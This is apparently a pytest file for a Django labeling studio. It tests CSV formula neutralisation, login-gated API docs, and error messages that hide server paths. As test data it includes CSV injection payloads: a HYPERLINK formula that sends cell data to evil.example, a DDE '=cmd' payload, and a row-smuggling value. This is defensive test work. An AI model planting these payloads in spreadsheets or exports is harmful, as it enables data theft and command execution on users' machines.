"""What the studio hands out: CSV cells no spreadsheet runs as formulas, error texts that
name the user's file rather than a server path, the API docs only for logged-in users."""

from __future__ import annotations

import csv
import io
import json
import re
import tempfile
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from labeling import formats, ingest
from labeling.categories import categories_ensure
from labeling.dataset_import import dataset_import, dataset_import_run
from labeling.formats import Box, Dataset, ImageRecord
from labeling.formats.csv_cells import FORMULA_STARTS, neutralise, restore
from labeling.import_paths import server_paths_hidden
from labeling.models import Annotation, Category, Image, Membership, Project, Role
from tests.labeling.imagefiles import image_bytes

# --- CSV cells a spreadsheet would run ----------------------------------------------

# Class names as an attacker (or an unlucky labeler) might pick them.
FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB=1",
    "\rCR=1",
    "'=already quoted",
    "''@twice",
]
PLAIN_NAMES = ["RBC", "it's fine", "'leading quote", "a=b", "x-ray"]
# Names that would break a row apart if written unquoted (csv.reader ends a row at a CR).
ROW_BREAKING_NAMES = [
    "two\rTRAIN,images/0.png,injected,0,0,,,1,1,,",
    "new\nline",
    'say "hi"',
    "a,b",
]


@pytest.mark.parametrize("name", [*FORMULA_NAMES, *PLAIN_NAMES, "", "'", "''"])
def test_neutralised_cells_start_safely_and_restore(name):
    cell = neutralise(name)
    assert not cell.startswith(FORMULA_STARTS)
    assert restore(cell) == name
    if name in PLAIN_NAMES:
        assert cell == name  # nothing to neutralise


def _project_with_classes(user, names: list[str]) -> Project:
    project = Project.objects.create(name="Formulas", created_by=user)
    Membership.objects.create(project=project, user=user, role=Role.OWNER)
    categories, _ = categories_ensure(project=project, names=names)
    for i, name in enumerate(names):
        data = image_bytes(size=(40, 30), color=(10 * i, 40, 40))
        [result] = ingest.images_ingest(
            project=project, sources=[ingest.Source(f"{i}.png", io.BytesIO(data))]
        )
        image = Image.objects.get(pk=result.image_id)
        Annotation.objects.create(
            image=image, category=categories[name], x=2, y=3, w=10, h=8, area=80
        )
        image.status = "labeled"
        image.save(update_fields=["status"])
    return project


@pytest.mark.django_db
def test_automl_csv_export_neutralises_formulas_and_imports_back(make_user, tmp_path):
    user = make_user("exporter")
    project = _project_with_classes(user, [*FORMULA_NAMES, *PLAIN_NAMES, *ROW_BREAKING_NAMES])
    # As the studio keeps them (it strips the tab and the CR off the start).
    names = list(Category.objects.filter(project=project).values_list("name", flat=True))
    assert "=cmd|' /C calc'!A0" in names and "TAB=1" in names
    client = APIClient()
    client.force_authenticate(user)
    response = client.get(f"/api/v1/projects/{project.pk}/export/automl-csv")
    assert response.status_code == 200
    archive = tmp_path / "export.zip"
    archive.write_bytes(b"".join(response.streaming_content))
    with zipfile.ZipFile(archive) as opened:
        [csv_name] = [n for n in opened.namelist() if n.endswith(".csv")]
        rows = list(csv.reader(io.StringIO(opened.read(csv_name).decode(), newline="")))
    labels = [row[2] for row in rows]
    assert sorted(restore(label) for label in labels) == sorted(names)
    for row in rows:  # no text cell a spreadsheet would take for a formula
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row[:3]), row
    # Imported into another project, the class names are the original ones.
    other = Project.objects.create(name="Imported", created_by=user)
    record = dataset_import(project=other, path=archive, format="automl-csv", user=user)
    assert record.boxes_added == len(names)
    assert sorted(Category.objects.filter(project=other).values_list("name", flat=True)) == sorted(
        names
    )


# --- /api/v1/docs and /api/v1/schema ------------------------------------------------


@pytest.mark.django_db
def test_anonymous_users_get_no_schema_and_are_sent_to_log_in_for_the_docs(client):
    schema = client.get("/api/v1/schema")
    assert schema.status_code == 401
    assert schema.json() == {"detail": "Authentication credentials were not provided."}
    for url in ("/api/v1/docs", "/api/v1/docs?script="):
        docs = client.get(url)
        assert docs.status_code == 302
        assert docs["Location"].startswith("/accounts/login/?next=/api/v1/docs")
    for url in ("/api/v1/docs", "/api/v1/schema"):
        wrong = client.get(url, HTTP_AUTHORIZATION="Token not-a-key")
        assert wrong.status_code == 401
        assert wrong.json() == {"detail": "Invalid token."}


@pytest.mark.django_db
def test_logged_in_users_and_tokens_get_the_docs_and_schema(make_user):
    user = make_user("reader")
    browser = Client()
    browser.force_login(user)
    assert browser.get("/api/v1/docs").status_code == 200
    assert browser.get("/api/v1/docs?script=").status_code == 200
    assert b"openapi" in browser.get("/api/v1/schema").content
    script = APIClient()
    script.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
    assert script.get("/api/v1/schema?format=json").json()["info"]["title"]


@pytest.mark.django_db
def test_a_setting_makes_them_public(client, settings):
    settings.STUDIO_API_DOCS_PUBLIC = True
    assert client.get("/api/v1/docs").status_code == 200
    assert client.get("/api/v1/docs?script=").status_code == 200
    assert client.get("/api/v1/schema?format=json").json()["info"]["title"]


def test_automl_csv_format_round_trip_keeps_every_name(tmp_path):
    """The converter itself (also used outside the studio) keeps every name as given."""
    picture = tmp_path / "a.png"
    picture.write_bytes(image_bytes(size=(40, 30)))
    names = sorted([*FORMULA_NAMES, *PLAIN_NAMES, *ROW_BREAKING_NAMES])
    boxes = [Box(name, 1 + i, 2, 5, 4) for i, name in enumerate(names)]
    dataset = Dataset(classes=names, images=[ImageRecord("a.png", picture, 40, 30, "train", boxes)])
    formats.write(dataset, tmp_path / "out", "automl-csv")
    with (tmp_path / "out" / "annotations.csv").open(newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == len(names)
    assert all(not row[2].startswith(FORMULA_STARTS) for row in rows)
    back = formats.read(tmp_path / "out", "automl-csv")
    assert back.classes == names
    assert sorted(box.label for box in back.images[0].boxes) == names


# --- Error texts name the user's file, never a server path ---------------------------


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def _server_paths(text: str) -> list[str]:
    roots = {tempfile.gettempdir(), str(settings.MEDIA_ROOT), str(settings.DATA_DIR)}
    roots.add(str(settings.BASE_DIR))
    return [root for root in roots if root in text] + re.findall(r"studio-import[\w-]*", text)


NOT_A_DATASET_CASES = {
    # a zip of images only, imported as COCO: "no COCO JSON file ... in <folder>"
    "coco": ("photos.zip", _zip({"a.png": image_bytes()}), "in photos.zip"),
    # a YOLO import without class names: "no class names in <folder>"
    "yolo": ("set.zip", _zip({"set/images/a.png": image_bytes()}), "in set/images:"),
    # Pascal VOC without Annotations/*.xml
    "voc": ("voc.zip", _zip({"JPEGImages/a.png": image_bytes()}), "in JPEGImages"),
    # an AutoML import of a folder with no CSV
    "automl-csv": ("csv.zip", _zip({"a.png": image_bytes(), "b.png": image_bytes()}), "in csv.zip"),
    # Label Studio without a task list
    "labelstudio": ("ls.zip", _zip({"a.png": image_bytes(), "b.png": image_bytes()}), "in ls.zip"),
}


def _import_through_the_api(project_team, name: str, data: bytes, format: str) -> dict:
    """POST the file as a script would, run the job as the worker does, read the result."""
    project = project_team["project"]
    client = APIClient()
    client.force_authenticate(project_team["users"]["owner"])
    upload = SimpleUploadedFile(name, data)
    response = client.post(
        f"/api/v1/projects/{project.pk}/imports", {"file": upload, "format": format}
    )
    assert response.status_code == 202, response.content
    dataset_import_run(import_id=response.json()["id"])
    return client.get(f"/api/v1/projects/{project.pk}/imports/{response.json()['id']}").json()


@pytest.mark.django_db
@pytest.mark.parametrize("format", sorted(NOT_A_DATASET_CASES))
def test_a_failed_import_names_the_upload_not_a_server_folder(project_team, format):
    name, data, shown = NOT_A_DATASET_CASES[format]
    body = _import_through_the_api(project_team, name, data, format)
    assert body["status"] == "failed"
    assert _server_paths(body["error"]) == [], body["error"]
    assert shown in body["error"], body["error"]


@pytest.mark.django_db
def test_report_messages_name_files_inside_the_upload(project_team):
    document = {
        "images": [{"id": 1, "file_name": "broken.png"}],  # no size: it is read from the file
        "categories": [{"id": 1, "name": "cell"}],
        "annotations": [{"id": 1, "image_id": 1, "category_id": 1, "bbox": [1, 2, 3, 4]}],
    }
    data = _zip(
        {
            "data/annotations.json": json.dumps(document).encode(),
            "data/broken.png": b"not an image at all",
        }
    )
    body = _import_through_the_api(project_team, "cells.zip", data, "coco")
    text = json.dumps({"error": body["error"], "report": body["report"]})
    assert "'data/broken.png'" in text  # as the zip names it
    assert _server_paths(text) == [], text


def test_other_server_paths_are_cut_to_their_last_component(settings):
    media = Path(settings.MEDIA_ROOT)
    text = f"[Errno 28] No space left on device: '{media / 'projects' / '3' / 'a.png'}'"
    assert server_paths_hidden(text) == "[Errno 28] No space left on device: 'a.png'"
    assert server_paths_hidden(f"in {tempfile.gettempdir()}") == "in a server folder"
    assert server_paths_hidden("/tmpfile.zip and data/a.png") == "/tmpfile.zip and data/a.png"


# --- An unhandled error --------------------------------------------------------------


@pytest.mark.urls("tests.security.server_error_urls")
def test_an_unhandled_error_answers_json_under_the_api_and_the_page_elsewhere(settings):
    settings.DEBUG = False
    client = Client(raise_request_exception=False)
    for url in ("/api/v1/boom", "/v1/vision/boom"):
        response = client.get(url)
        assert response.status_code == 500
        body = response.json()
        assert body["detail"].startswith("Something went wrong on the server")
        assert "1f2e3d" not in response.content.decode()
    page = client.get("/boom/")
    assert page.status_code == 500 and page["Content-Type"].startswith("text/html")
    assert b"Something went wrong on the server" in page.content
